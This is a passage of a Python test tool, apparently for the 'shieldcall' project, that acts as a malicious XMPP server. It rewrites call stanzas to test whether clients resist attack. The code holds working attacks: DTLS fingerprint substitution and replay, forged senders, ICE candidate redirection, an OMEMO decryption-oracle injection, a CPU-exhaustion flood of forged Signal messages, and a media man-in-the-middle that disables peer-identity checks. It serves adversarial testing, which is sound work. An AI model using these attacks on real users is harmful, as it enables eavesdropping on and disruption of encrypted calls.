#!/usr/bin/env python3
"""A malicious XMPP server operator for shieldcall's adversarial tests (issue #5).

A TCP proxy between XMPP clients and a real server (the test Prosody), sitting exactly where a server
operator sits: it sees every stanza in both directions and rewrites the ones delivered *to* the
victim (the caller's or the callee's connection) according to one scenario. Test-time only, Python
3.11 standard library only. Plaintext client-to-server streams only (the clients connect with
`--insecure-loopback`; the test Prosody offers no STARTTLS): a `<proceed/>` to STARTTLS switches the
connection to blind byte forwarding.

Usage:
  xmpp_mitm.py --upstream 127.0.0.1:PORT --scenario NAME [--victim caller|callee] [--log FILE] [args]

Binds 127.0.0.1:0 and prints {"listening": PORT} on stdout, then one JSON line per rewrite:
  {"rewrote": SCENARIO, "direction": "to-client", "client": "user@host/res", "stanza": KIND, "sid": SID, ...}
(flushed each). Serves any number of connections until SIGTERM/SIGINT, then exits 0.
--log FILE gets one JSON line per top-level element seen or sent, with the raw XML
({"direction", "client", "action": "forwarded|rewritten|dropped|injected", "xml"}); SASL <auth/>
payloads are redacted there.

Forwarding is byte-exact: each direction is split incrementally by a small scanner of its own
(the boundaries of the stream header and of top-level elements), and the raw bytes of every
top-level element are sliced out; only the
stanzas a scenario rewrites are re-serialised (from a tree whose `xmlns` declarations are kept as the
attributes they were). The stream restart after SASL <success/> starts fresh parsers for both
directions. Each connection is labelled with the JID from its bind result.

Roles: the proxy learns, per session id (the JMI id, reused as the Jingle sid), which account is the
caller (sender of <propose/> or session-initiate) and which is the callee; a stanza delivered to a
connection is "delivered to the caller" when that connection's account is the session's caller.
Without a known session the kind decides (proceed/ringing/session-accept go to the caller,
propose/session-initiate to the callee).

Scenarios (all aimed at stanzas delivered to --victim, directly or as the message forwarded in a
carbon <sent/>/<received/>):
  passthrough          forward everything unchanged (still logs)
  strip-device         remove <device/> from <proceed/>
  change-device        change the <device/> id (to --device-id, default old id + 1)
  encrypted-to-plain   replace each draft (encrypted) <fingerprint/> in a Jingle IQ by a plain
                       XEP-0320 one (hash sha-256, same setup) carrying --attacker-fingerprint
  add-plain-before     insert a plain attacker fingerprint before each encrypted one
  add-plain-after      ... after it
  flip-setup           setup active<->passive, actpass->active on every fingerprint (draft and plain)
  replay-fingerprint   remember the fingerprints of the first call's stanza of each Jingle action and
                       put them into the same action's stanza of every later call (other sid)
  drop-session-accept  drop the session-accept (--ack-dropped: answer the sender with an IQ result
                       in the victim's name, as a server operator could)
  forge-from-resource  inject a copy of the --stanza (session-accept|proceed to the caller,
                       session-initiate to the callee) with `from` changed to
  forge-from-jid       another resource of the same account / another JID (--forge-from), before
                       the original, which is delivered (--original deliver) or dropped (drop); the
                       victim's IQ answers to the forged sender are swallowed
  replace-candidates   every ICE candidate's ip/port set to --attacker-addr (also in transport-info)
  inject-message       the decryption-oracle attack: the first OMEMO chat message delivered to
                       --withhold-to (a bare JID) is withheld, and its <encrypted/> is put in place
                       of the encrypted DTLS fingerprint of the first Jingle IQ delivered to the
                       victim (same sender device and session, next counter: it decrypts)
  flood                (aimed at the victim's connection) once a session-accept reached the
                       caller, --flood-rate forged OMEMO messages a second for --flood-seconds, each
                       "from" the call's peer (its full JID and OMEMO device) with the most keys for
                       the victim's device a client tries, each a SignalMessage on a fresh ratchet
                       key --flood-counter steps into its chain and a MAC that never verifies: the
                       most CPU a stanza may cost the victim; reports {"flood": "done", "sent": N}
  media-mitm           (both sides; needs aiortc) the attacker's own DTLS-SRTP endpoint: per session
                       one aiortc peer answers the caller's offer and one offers to the callee; the
                       session-initiate to the callee and the session-accept to the caller get the
                       attacker's description and transport (ufrag/pwd/candidates, its certificate's
                       plain fingerprint; an encrypted fingerprint is relayed unchanged with `setup`
                       adjusted, as the attacker can neither read nor forge it); transport-info is
                       dropped. Both peers send --tone (Hz) and report on stdout
                       {"media": STATE|"audio"|"summary", "side": "caller"|"callee", "sid", ...}.

Importable: the pure rewrite functions (one per scenario, over a parsed stanza `El`) and
StreamRewriter (the byte-exact stream splitter) are unit-tested by test_xmpp_mitm.py.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import json
import signal
import sys
import time
import xml.parsers.expat
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterator, List, Optional, Sequence, Tuple

NS_CLIENT = "jabber:client"
NS_JMI = "urn:xmpp:jingle-message:0"
NS_JINGLE = "urn:xmpp:jingle:1"
NS_ICE = "urn:xmpp:jingle:transports:ice-udp:1"
NS_DTLS = "urn:xmpp:jingle:apps:dtls:0"
NS_DRAFT = "http://gultsch.de/xmpp/drafts/omemo/dlts-srtp-verification"
NS_OMEMO = "eu.siacs.conversations.axolotl"
NS_CARBONS = "urn:xmpp:carbons:2"
NS_FORWARD = "urn:xmpp:forward:0"
NS_SASL = "urn:ietf:params:xml:ns:xmpp-sasl"
NS_BIND = "urn:ietf:params:xml:ns:xmpp-bind"
NS_TLS = "urn:ietf:params:xml:ns:xmpp-tls"

SCENARIOS = (
    "passthrough",
    "strip-device",
    "change-device",
    "encrypted-to-plain",
    "add-plain-before",
    "add-plain-after",
    "flip-setup",
    "replay-fingerprint",
    "drop-session-accept",
    "forge-from-resource",
    "forge-from-jid",
    "replace-candidates",
    "media-mitm",
    "inject-message",
    "flood",
)

# A made-up attacker certificate digest (SHA-256 of a fixed string), in the uppercase
# colon-separated form clients send.
DEFAULT_ATTACKER_FINGERPRINT = ":".join(
    f"{b:02X}" for b in hashlib.sha256(b"shieldcall xmpp_mitm attacker").digest()
)

JINGLE_TRANSPORT_ACTIONS = (
    "session-initiate",
    "session-accept",
    "content-add",
    "content-accept",
    "content-modify",
    "transport-info",
    "transport-replace",
    "transport-accept",
)


# ---------------------------------------------------------------------------------------------
# A small element tree without namespace processing: xmlns stays an attribute, prefixes stay in
# names, attribute order is kept. `ns` is the resolved default namespace (for matching only).


class El:
    __slots__ = ("tag", "attrs", "children", "text", "tail", "ns")

    def __init__(self, tag: str, attrs: Optional[Dict[str, str]] = None, ns: str = "", text: str = ""):
        self.tag = tag
        self.attrs: Dict[str, str] = dict(attrs or {})
        self.children: List[El] = []
        self.text = text
        self.tail = ""
        self.ns = self.attrs.get("xmlns", ns)

    def get(self, name: str, default: Optional[str] = None) -> Optional[str]:
        return self.attrs.get(name, default)

    def find(self, tag: str, ns: Optional[str] = None) -> Optional["El"]:
        for c in self.children:
            if c.tag == tag and (ns is None or c.ns == ns):
                return c
        return None

    def findall(self, tag: str, ns: Optional[str] = None) -> List["El"]:
        return [c for c in self.children if c.tag == tag and (ns is None or c.ns == ns)]

    def iter(self) -> Iterator["El"]:
        yield self
        for c in self.children:
            yield from c.iter()

    def copy(self) -> "El":
        e = El(self.tag, self.attrs, self.ns, self.text)
        e.ns = self.ns
        e.tail = self.tail
        e.children = [c.copy() for c in self.children]
        return e

    def all_text(self) -> str:
        return self.text + "".join(c.all_text() + c.tail for c in self.children)

    def serialize(self) -> bytes:
        out: List[str] = []
        self._ser(out)
        return "".join(out).encode("utf-8")

    def _ser(self, out: List[str]) -> None:
        out.append("<" + self.tag)
        for k, v in self.attrs.items():
            out.append(f' {k}="{_esc_attr(v)}"')
        if not self.children and not self.text:
            out.append("/>")
            return
        out.append(">")
        out.append(_esc_text(self.text))
        for c in self.children:
            c._ser(out)
            out.append(_esc_text(c.tail))
        out.append(f"</{self.tag}>")

    def __repr__(self) -> str:
        return self.serialize().decode("utf-8")


def _esc_text(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _esc_attr(s: str) -> str:
    return (
        _esc_text(s)
        .replace('"', "&quot;")
        .replace("\t", "&#9;")
        .replace("\n", "&#10;")
        .replace("\r", "&#13;")
    )


def parse_element(raw: bytes, parent_ns: str = NS_CLIENT) -> El:
    """Parses one complete element (a stanza as sliced from the stream) into an El tree."""
    p = xml.parsers.expat.ParserCreate()
    p.buffer_text = True
    stack: List[El] = []
    roots: List[El] = []

    def start(tag: str, attrs: Dict[str, str]) -> None:
        el = El(tag, attrs, stack[-1].ns if stack else parent_ns)
        if stack:
            stack[-1].children.append(el)
        else:
            roots.append(el)
        stack.append(el)

    def end(_tag: str) -> None:
        stack.pop()

    def chars(data: str) -> None:
        if not stack:
            return
        cur = stack[-1]
        if cur.children:
            cur.children[-1].tail += data
        else:
            cur.text += data

    p.StartElementHandler = start
    p.EndElementHandler = end
    p.CharacterDataHandler = chars
    p.Parse(raw, True)
    return roots[0]


def make(tag: str, ns: str, parent_ns: str, attrs: Optional[Dict[str, str]] = None, text: str = "") -> El:
    """A new element; declares xmlns only when it differs from the parent's namespace."""
    a: Dict[str, str] = {}
    if ns != parent_ns:
        a["xmlns"] = ns
    a.update(attrs or {})
    e = El(tag, a, parent_ns, text)
    e.ns = ns
    return e


# ---------------------------------------------------------------------------------------------
# Stanza helpers


def bare(jid: Optional[str]) -> str:
    return (jid or "").split("/", 1)[0]


def carbon_inner(st: El) -> Optional[El]:
    """The message forwarded in a carbon <sent/>/<received/>, if `st` is one."""
    if st.tag != "message":
        return None
    for c in st.children:
        if c.ns == NS_CARBONS and c.tag in ("sent", "received"):
            fwd = c.find("forwarded", NS_FORWARD)
            if fwd is not None:
                m = fwd.find("message")
                if m is not None:
                    return m
    return None


def messages(st: El) -> List[El]:
    """The message itself and the one forwarded in a carbon (for JMI rewrites)."""
    if st.tag != "message":
        return []
    inner = carbon_inner(st)
    return [st] + ([inner] if inner is not None else [])


def jmi(msg: El) -> Optional[El]:
    for c in msg.children:
        if c.ns == NS_JMI:
            return c
    return None


def jingle(st: El) -> Optional[El]:
    if st.tag != "iq" or st.get("type") != "set":
        return None
    return st.find("jingle", NS_JINGLE)


def kind_of(st: El) -> Optional[str]:
    """JMI element name (also inside a carbon) or Jingle action."""
    j = jingle(st)
    if j is not None:
        return j.get("action")
    for m in messages(st):
        e = jmi(m)
        if e is not None:
            return e.tag
    return None


def sid_of(st: El) -> Optional[str]:
    j = jingle(st)
    if j is not None:
        return j.get("sid")
    for m in messages(st):
        e = jmi(m)
        if e is not None:
            return e.get("id")
    return None


def transports(st: El) -> List[El]:
    j = jingle(st)
    if j is None or j.get("action") not in JINGLE_TRANSPORT_ACTIONS:
        return []
    out = []
    for content in j.findall("content"):
        out.extend(content.findall("transport", NS_ICE))
    return out


def encrypted_fingerprints(st: El) -> List[El]:
    return [f for t in transports(st) for f in t.findall("fingerprint", NS_DRAFT)]


def plain_fingerprint(parent_ns: str, setup: Optional[str], value: str, hash_: str = "sha-256") -> El:
    attrs = {"hash": hash_}
    if setup is not None:
        attrs["setup"] = setup
    return make("fingerprint", NS_DTLS, parent_ns, attrs, value)


def normalize_fingerprint(hexstr: str) -> str:
    h = hexstr.replace(":", "").strip().upper()
    if len(h) != 64 or any(c not in "0123456789ABCDEF" for c in h):
        raise ValueError(f"not a SHA-256 fingerprint: {hexstr!r}")
    return ":".join(h[i : i + 2] for i in range(0, 64, 2))


# ---------------------------------------------------------------------------------------------
# The rewrites: pure functions over a parsed stanza. Each returns a rewritten copy, or None when
# the stanza is not one it touches (then it is forwarded byte-exact).


def strip_device(st: El) -> Optional[El]:
    """Removes <device/> (any namespace, as Conversations looks it up) from <proceed/>."""
    out = st.copy()
    changed = False
    for m in messages(out):
        p = jmi(m)
        if p is not None and p.tag == "proceed":
            keep = [c for c in p.children if c.tag != "device"]
            if len(keep) != len(p.children):
                p.children = keep
                changed = True
    return out if changed else None


def change_device(st: El, new_id: Optional[str] = None) -> Optional[El]:
    """Changes the <device/> id in <proceed/> (to new_id, default the old id + 1)."""
    out = st.copy()
    changed = False
    for m in messages(out):
        p = jmi(m)
        if p is not None and p.tag == "proceed":
            for d in p.findall("device"):
                old = d.get("id", "")
                if new_id is not None:
                    d.attrs["id"] = new_id
                else:
                    d.attrs["id"] = str(int(old) % 0x7FFFFFFF + 1) if old.isdigit() else "1"
                changed = True
    return out if changed else None


def encrypted_to_plain(st: El, fingerprint: str = DEFAULT_ATTACKER_FINGERPRINT) -> Optional[El]:
    """Replaces every draft (OMEMO-encrypted) fingerprint by a plain XEP-0320 one carrying
    `fingerprint`, hash sha-256, same setup."""
    out = st.copy()
    changed = False
    for t in transports(out):
        for i, c in enumerate(t.children):
            if c.tag == "fingerprint" and c.ns == NS_DRAFT:
                new = plain_fingerprint(t.ns, c.get("setup"), fingerprint)
                new.tail = c.tail
                t.children[i] = new
                changed = True
    return out if changed else None


def add_plain(st: El, before: bool, fingerprint: str = DEFAULT_ATTACKER_FINGERPRINT) -> Optional[El]:
    """Adds a plain attacker fingerprint (same setup) before or after each encrypted one."""
    out = st.copy()
    changed = False
    for t in transports(out):
        kids: List[El] = []
        for c in t.children:
            if c.tag == "fingerprint" and c.ns == NS_DRAFT:
                new = plain_fingerprint(t.ns, c.get("setup"), fingerprint)
                kids.extend([new, c] if before else [c, new])
                changed = True
            else:
                kids.append(c)
        t.children = kids
    return out if changed else None


FLIPPED_SETUP = {"active": "passive", "passive": "active", "actpass": "active"}


def flip_setup(st: El) -> Optional[El]:
    """setup active<->passive and actpass->active on every fingerprint (encrypted and plain)."""
    out = st.copy()
    changed = False
    for t in transports(out):
        for c in t.children:
            if c.tag == "fingerprint" and c.ns in (NS_DRAFT, NS_DTLS) and c.get("setup") in FLIPPED_SETUP:
                c.attrs["setup"] = FLIPPED_SETUP[c.attrs["setup"]]
                changed = True
    return out if changed else None


def substitute_fingerprints(st: El, stored: Sequence[El]) -> Optional[El]:
    """Puts stored fingerprint elements (from an earlier call) in place of every fingerprint of
    the stanza's transports, the i-th transport getting stored[i] (the last one when fewer);
    a transport without fingerprint gets one appended. Candidates and ufrag/pwd stay."""
    if not stored:
        return None
    out = st.copy()
    ts = transports(out)
    for i, t in enumerate(ts):
        rep = stored[min(i, len(stored) - 1)].copy()
        kids: List[El] = []
        placed = False
        for c in t.children:
            if c.tag == "fingerprint" and c.ns in (NS_DRAFT, NS_DTLS):
                if not placed:
                    rep.tail = c.tail
                    kids.append(rep)
                    placed = True
            else:
                kids.append(c)
        if not placed:
            kids.append(rep)
        t.children = kids
    return out if ts else None


class Replayer:
    """replay-fingerprint: the first call's encrypted fingerprints per Jingle action, replayed into
    the same action of later calls (another sid)."""

    def __init__(self) -> None:
        self.stored: Dict[str, Tuple[str, List[El]]] = {}  # action -> (sid, fingerprints)

    def rewrite(self, st: El) -> Optional[El]:
        j = jingle(st)
        if j is None:
            return None
        action, sid = j.get("action") or "", j.get("sid") or ""
        if action not in self.stored:
            fps = encrypted_fingerprints(st)
            if fps:
                self.stored[action] = (sid, [f.copy() for f in fps])
            return None
        first_sid, fps = self.stored[action]
        if sid == first_sid:
            return None
        return substitute_fingerprints(st, fps)


def chat_encrypted(st: El) -> Optional[El]:
    """The OMEMO <encrypted/> (with a payload) of a chat message that is not about calls."""
    if st.tag != "message" or st.get("type") == "error" or jmi(st) is not None:
        return None
    enc = st.find("encrypted", NS_OMEMO)
    if enc is None or enc.find("payload") is None:
        return None
    return enc


class Injector:
    """inject-message: a withheld chat message's <encrypted/>, put into the first encrypted
    fingerprint delivered to the victim."""

    def __init__(self) -> None:
        self.stored: Optional[El] = None
        self.used = False

    def withhold(self, st: El) -> bool:
        """Keeps the first OMEMO chat message instead of delivering it."""
        enc = chat_encrypted(st)
        if self.stored is not None or enc is None:
            return False
        self.stored = enc.copy()
        return True

    def rewrite(self, st: El) -> Optional[El]:
        if self.stored is None or self.used:
            return None
        out = st.copy()
        fps = encrypted_fingerprints(out)
        if not fps:
            return None
        stored = self.stored.copy()
        stored.attrs["xmlns"] = NS_OMEMO
        fps[0].children = [stored if c.tag == "encrypted" else c for c in fps[0].children]
        self.used = True
        return out


def protobuf_bytes(field: int, value: bytes) -> bytes:
    return bytes([field << 3 | 2]) + varint(len(value)) + value


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def forged_signal_message(counter: int) -> bytes:
    """A Signal v3 SignalMessage on a fresh random ratchet key with a random MAC: a receiver
    does a DH ratchet step and walks `counter` chain steps before the MAC check fails."""
    import os

    proto = (
        protobuf_bytes(1, b"\x05" + os.urandom(32))
        + bytes([2 << 3]) + varint(counter)
        + bytes([3 << 3]) + varint(0)
        + protobuf_bytes(4, os.urandom(48))
    )
    return b"\x33" + proto + os.urandom(8)


def flood_message(frm: str, to: str, sid: int, rid: int, keys: int, counter: int, n: int) -> bytes:
    import base64
    import os

    b64 = lambda b: base64.b64encode(b).decode()  # noqa: E731
    key_els = "".join(f"<key rid='{rid}'>{b64(forged_signal_message(counter))}</key>" for _ in range(keys))
    return (
        f"<message xmlns='{NS_CLIENT}' type='chat' from='{frm}' to='{to}' id='mitm-flood-{n}'>"
        f"<encrypted xmlns='{NS_OMEMO}'><header sid='{sid}'>{key_els}<iv>{b64(os.urandom(12))}</iv></header>"
        f"<payload>{b64(os.urandom(32))}</payload></encrypted><store xmlns='urn:xmpp:hints'/></message>"
    ).encode()


def is_session_accept(st: El) -> bool:
    j = jingle(st)
    return j is not None and j.get("action") == "session-accept"


def is_proceed(st: El) -> bool:
    if st.tag != "message":
        return False
    p = jmi(st)
    return p is not None and p.tag == "proceed"


def is_session_initiate(st: El) -> bool:
    j = jingle(st)
    return j is not None and j.get("action") == "session-initiate"


FORGEABLE = {"session-accept": is_session_accept, "session-initiate": is_session_initiate, "proceed": is_proceed}


def forge_from(st: El, new_from: str, which: str = "session-accept") -> Optional[El]:
    """A copy of the session-accept (or proceed / session-initiate, per `which`) with `from` set
    to new_from. session-initiate is the callee-side forgery (it is delivered to the callee)."""
    hit = FORGEABLE[which](st)
    if not hit:
        return None
    out = st.copy()
    out.attrs["from"] = new_from
    return out


def other_resource(jid: str, resource: str = "mitm-forged") -> str:
    return f"{bare(jid)}/{resource}"


def replace_candidates(st: El, ip: str, port: int) -> Optional[El]:
    """Every ICE-UDP candidate's ip and port set to the attacker's (any Jingle action with
    transports, transport-info included)."""
    out = st.copy()
    changed = False
    for t in transports(out):
        for c in t.findall("candidate"):
            c.attrs["ip"] = ip
            c.attrs["port"] = str(port)
            changed = True
    return out if changed else None


# ---------------------------------------------------------------------------------------------
# Scenario dispatch: what to deliver instead of one stanza.


@dataclass
class Options:
    scenario: str = "passthrough"
    victim: str = "caller"
    attacker_fingerprint: str = DEFAULT_ATTACKER_FINGERPRINT
    attacker_ip: str = "127.0.0.1"
    attacker_port: int = 9
    device_id: Optional[str] = None
    stanza: str = "session-accept"
    forge_from: Optional[str] = None
    original: str = "deliver"
    ack_dropped: bool = False
    tone: float = 660.0
    withhold_to: Optional[str] = None
    flood_rate: float = 50.0
    flood_seconds: float = 3.0
    flood_keys: int = 2
    flood_counter: int = 311


@dataclass
class Outcome:
    """Replacement for one stanza: `deliver` in order (empty = dropped), `detail` for the log."""

    deliver: List[El]
    detail: str
    forged: List[El] = field(default_factory=list)


class Scenario:
    def __init__(self, opts: Options) -> None:
        if opts.scenario not in SCENARIOS:
            raise ValueError(f"unknown scenario {opts.scenario!r}")
        self.o = opts
        self.replayer = Replayer()
        self.injector = Injector()

    def apply(self, st: El) -> Optional[Outcome]:
        """The rewrite for a stanza delivered to the victim, or None to forward it unchanged."""
        o, name = self.o, self.o.scenario
        one = lambda new, detail: None if new is None else Outcome([new], detail)  # noqa: E731
        if name in ("passthrough", "media-mitm", "flood"):  # see Proxy.on_element
            return None
        if name == "inject-message":
            return one(self.injector.rewrite(st), "the withheld chat message's <encrypted/> put in as the fingerprint")
        if name == "strip-device":
            return one(strip_device(st), "removed <device/> from <proceed/>")
        if name == "change-device":
            new = change_device(st, o.device_id)
            if new is None:
                return None
            ids = [d.get("id") for m in messages(new) for p in [jmi(m)] if p is not None for d in p.findall("device")]
            return Outcome([new], f"device id now {ids[0] if ids else '?'}")
        if name == "encrypted-to-plain":
            return one(encrypted_to_plain(st, o.attacker_fingerprint), f"plain fingerprint {o.attacker_fingerprint}")
        if name in ("add-plain-before", "add-plain-after"):
            before = name == "add-plain-before"
            return one(add_plain(st, before, o.attacker_fingerprint), f"plain fingerprint {o.attacker_fingerprint}")
        if name == "flip-setup":
            return one(flip_setup(st), "setup flipped")
        if name == "replay-fingerprint":
            new = self.replayer.rewrite(st)
            if new is None:
                return None
            j = jingle(st)
            first = self.replayer.stored[j.get("action") if j is not None else ""][0]
            return Outcome([new], f"fingerprint of session {first} replayed")
        if name == "drop-session-accept":
            return Outcome([], "dropped") if is_session_accept(st) else None
        if name in ("forge-from-resource", "forge-from-jid"):
            frm = st.get("from") or ""
            if name == "forge-from-resource":
                new_from = o.forge_from or other_resource(frm)
            else:
                new_from = o.forge_from or f"mallory@{bare(frm).split('@')[-1] or 'localhost'}/mitm"
            forged = forge_from(st, new_from, o.stanza)
            if forged is None:
                return None
            deliver = [forged] + ([st] if o.original == "deliver" else [])
            return Outcome(deliver, f"forged from {new_from}, original {'delivered after it' if o.original == 'deliver' else 'dropped'}", forged=[forged])
        if name == "replace-candidates":
            return one(replace_candidates(st, o.attacker_ip, o.attacker_port), f"candidates -> {o.attacker_ip}:{o.attacker_port}")
        raise AssertionError(name)


# ---------------------------------------------------------------------------------------------
# media-mitm: an aiortc endpoint terminating DTLS towards both clients (imported only for this
# scenario; aiortc comes from the venv scripts/test builds).

NS_RTP = "urn:xmpp:jingle:apps:rtp:1"
NS_SSMA = "urn:xmpp:jingle:apps:rtp:ssma:0"
NS_HDREXT = "urn:xmpp:jingle:apps:rtp:rtp-hdrext:0"
# SDP needs some fingerprint; the attacker cannot read an encrypted one and skips the check.
DUMMY_FINGERPRINT = ":".join(["00"] * 32)


def content_to_sdp(content: El, sdp_type: str, mid: str) -> str:
    """One Jingle RTP content (description + ICE-UDP transport) as an SDP for aiortc."""
    d = content.find("description", NS_RTP)
    t = content.find("transport", NS_ICE)
    if d is None or t is None:
        raise ValueError("content without RTP description or ICE-UDP transport")
    pts = d.findall("payload-type")
    lines = [
        "v=0",
        "o=- 1 1 IN IP4 127.0.0.1",
        "s=-",
        "t=0 0",
        f"a=group:BUNDLE {mid}",
        "a=msid-semantic:WMS *",
        "m=audio 9 UDP/TLS/RTP/SAVPF " + " ".join(pt.get("id", "") for pt in pts),
        "c=IN IP4 0.0.0.0",
        "a=rtcp:9 IN IP4 0.0.0.0",
        f"a=mid:{mid}",
        "a=sendrecv",
    ]
    for h in d.findall("rtp-hdrext", NS_HDREXT):
        lines.append(f"a=extmap:{h.get('id')} {h.get('uri')}")
    if d.find("rtcp-mux") is not None:
        lines.append("a=rtcp-mux")
    for pt in pts:
        enc = f"{pt.get('name')}/{pt.get('clockrate')}"
        if int(pt.get("channels", "1")) > 1:
            enc += f"/{pt.get('channels')}"
        lines.append(f"a=rtpmap:{pt.get('id')} {enc}")
        params = [(q.get("name"), q.get("value")) for q in pt.findall("parameter")]
        if params:
            lines.append(f"a=fmtp:{pt.get('id')} " + ";".join(f"{k}={v}" for k, v in params))
    for src in d.findall("source", NS_SSMA):
        for q in src.findall("parameter"):
            if q.get("name") == "cname":
                lines.append(f"a=ssrc:{src.get('ssrc')} cname:{q.get('value')}")
    lines.append(f"a=ice-ufrag:{t.get('ufrag')}")
    lines.append(f"a=ice-pwd:{t.get('pwd')}")
    for c in t.findall("candidate"):
        lines.append(
            f"a=candidate:{c.get('foundation')} {c.get('component')} {c.get('protocol')} {c.get('priority')} "
            f"{c.get('ip')} {c.get('port')} typ {c.get('type')}"
        )
    lines.append("a=end-of-candidates")
    fp = t.find("fingerprint", NS_DTLS)
    anyfp = fp if fp is not None else t.find("fingerprint", NS_DRAFT)
    value = fp.text.strip() if fp is not None else DUMMY_FINGERPRINT
    lines.append(f"a=fingerprint:sha-256 {value}")
    lines.append(f"a=setup:{anyfp.get('setup') if anyfp is not None else 'actpass'}")
    return "\r\n".join(lines) + "\r\n"


def sdp_to_content(sdp: str, parent: El) -> Tuple[El, El]:
    """aiortc's local SDP as a Jingle RTP description and ICE-UDP transport (with a plain
    fingerprint), children of a content element `parent`."""
    desc = make("description", NS_RTP, parent.ns, {"media": "audio"})
    trans = make("transport", NS_ICE, parent.ns)
    fmtp: Dict[str, List[Tuple[str, str]]] = {}
    rtpmap: List[Tuple[str, str]] = []
    ssrcs: List[Tuple[str, str]] = []
    exts: List[Tuple[str, str]] = []
    mux = False
    fingerprint = setup = None
    cands: List[List[str]] = []
    for line in sdp.splitlines():
        if not line.startswith("a="):
            continue
        key, _, val = line[2:].partition(":")
        if key == "rtpmap":
            pt, enc = val.split(" ", 1)
            rtpmap.append((pt, enc))
        elif key == "fmtp":
            pt, params = val.split(" ", 1)
            fmtp[pt] = [tuple(kv.split("=", 1)) for kv in params.split(";") if "=" in kv]  # type: ignore[misc]
        elif key == "ssrc" and " cname:" in val:
            ssrc, cname = val.split(" cname:", 1)
            ssrcs.append((ssrc, cname))
        elif key == "extmap":
            i, uri = val.split(" ", 1)
            exts.append((i.split("/")[0], uri))
        elif key == "rtcp-mux":
            mux = True
        elif key == "ice-ufrag":
            trans.attrs["ufrag"] = val
        elif key == "ice-pwd":
            trans.attrs["pwd"] = val
        elif key == "fingerprint" and val.startswith("sha-256 "):
            fingerprint = val.split(" ", 1)[1]
        elif key == "setup":
            setup = val
        elif key == "candidate":
            cands.append(val.split())
    for pt, enc in rtpmap:
        parts = enc.split("/")
        attrs = {"id": pt, "name": parts[0], "clockrate": parts[1]}
        if len(parts) > 2:
            attrs["channels"] = parts[2]
        e = make("payload-type", NS_RTP, NS_RTP, attrs)
        for k, v in fmtp.get(pt, []):
            e.children.append(make("parameter", NS_RTP, NS_RTP, {"name": k, "value": v}))
        desc.children.append(e)
    if mux:
        desc.children.append(make("rtcp-mux", NS_RTP, NS_RTP))
    for ssrc, cname in ssrcs:
        src = make("source", NS_SSMA, NS_RTP, {"ssrc": ssrc})
        src.children.append(make("parameter", NS_SSMA, NS_SSMA, {"name": "cname", "value": cname}))
        desc.children.append(src)
    for i, uri in exts:
        desc.children.append(make("rtp-hdrext", NS_HDREXT, NS_RTP, {"id": i, "uri": uri}))
    for n, f in enumerate(cands):
        trans.children.append(
            make(
                "candidate",
                NS_ICE,
                NS_ICE,
                {
                    "component": f[1],
                    "foundation": f[0],
                    "generation": "0",
                    "id": f"mitm{n}",
                    "ip": f[4],
                    "network": "0",
                    "port": f[5],
                    "priority": f[3],
                    "protocol": f[2].lower(),
                    "type": f[7],
                },
            )
        )
    trans.children.append(plain_fingerprint(NS_ICE, setup, fingerprint or DUMMY_FINGERPRINT))
    return desc, trans


def replace_media(st: El, sdp: str, relay_encrypted: bool) -> El:
    """A copy of a session-initiate/accept whose (first) content describes the attacker's
    endpoint (aiortc SDP `sdp`). With relay_encrypted, the original encrypted fingerprint
    (the peer's, which the attacker cannot read or forge) is kept, with `setup` set to the
    attacker's: the client then meets a certificate that does not match it."""
    out = st.copy()
    j = jingle(out)
    content = j.find("content") if j is not None else None
    if content is None:
        raise ValueError("no content")
    old_t = content.find("transport", NS_ICE)
    enc = old_t.find("fingerprint", NS_DRAFT) if old_t is not None else None
    desc, trans = sdp_to_content(sdp, content)
    if relay_encrypted and enc is not None:
        plain = trans.find("fingerprint", NS_DTLS)
        kept = enc.copy()
        if plain is not None and plain.get("setup"):
            kept.attrs["setup"] = plain.attrs["setup"]
        trans.children = [c for c in trans.children if c is not plain] + [kept]
    content.children = [
        desc if c.tag == "description" and c.ns == NS_RTP else trans if c.tag == "transport" and c.ns == NS_ICE else c
        for c in content.children
    ]
    return out


class MediaMitm:
    """The attacker's media endpoint: per session one aiortc peer answering the caller (side
    "caller") and one offering to the callee (side "callee"); both send the attacker's tone and
    count what they receive. The clients' own certificates are not checked (the attacker cannot
    know them when they travel encrypted)."""

    def __init__(self, tone: float) -> None:
        import aioice.ice
        from aiortc import RTCConfiguration, RTCPeerConnection, RTCSessionDescription  # noqa: F401
        from aiortc.rtcdtlstransport import RTCDtlsTransport

        aioice.ice.get_host_addresses = lambda use_ipv4, use_ipv6: ["127.0.0.1"]
        RTCDtlsTransport._validate_peer_identity = lambda self, params: None  # type: ignore[assignment]
        self.tone = tone
        self.sessions: Dict[str, Dict[str, object]] = {}

    def _pc(self, sid: str, side: str):
        from aiortc import RTCConfiguration, RTCPeerConnection

        pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))
        stats = {"frames": 0}

        @pc.on("connectionstatechange")
        def _state() -> None:
            emit({"media": pc.connectionState, "side": side, "sid": sid})

        @pc.on("track")
        def _track(track) -> None:
            async def count() -> None:
                while True:
                    try:
                        await track.recv()
                    except Exception:
                        return
                    stats["frames"] += 1
                    if stats["frames"] == 1:
                        emit({"media": "audio", "side": side, "sid": sid})

            asyncio.ensure_future(count())

        self.sessions.setdefault(sid, {})[side] = (pc, stats)
        return pc

    async def on_initiate(self, st: El) -> El:
        """session-initiate delivered to the callee: answer the caller's offer ourselves, offer
        our own endpoint to the callee."""
        from aiortc import RTCSessionDescription

        j = jingle(st)
        sid = j.get("sid") or ""
        content = j.find("content")
        pc_a = self._pc(sid, "caller")
        await pc_a.setRemoteDescription(RTCSessionDescription(content_to_sdp(content, "offer", "0"), "offer"))
        pc_a.addTrack(_tone_track(self.tone))
        await pc_a.setLocalDescription(await pc_a.createAnswer())
        pc_b = self._pc(sid, "callee")
        pc_b.addTransceiver(_tone_track(self.tone), direction="sendrecv")
        await pc_b.setLocalDescription(await pc_b.createOffer())
        return replace_media(st, pc_b.localDescription.sdp, relay_encrypted=True)

    async def on_accept(self, st: El) -> El:
        """session-accept delivered to the caller: complete the callee side, answer the caller
        with our own endpoint."""
        from aiortc import RTCSessionDescription

        j = jingle(st)
        sid = j.get("sid") or ""
        sess = self.sessions.get(sid)
        if not sess:
            raise ValueError(f"session-accept for unknown session {sid}")
        pc_a = sess["caller"][0]  # type: ignore[index]
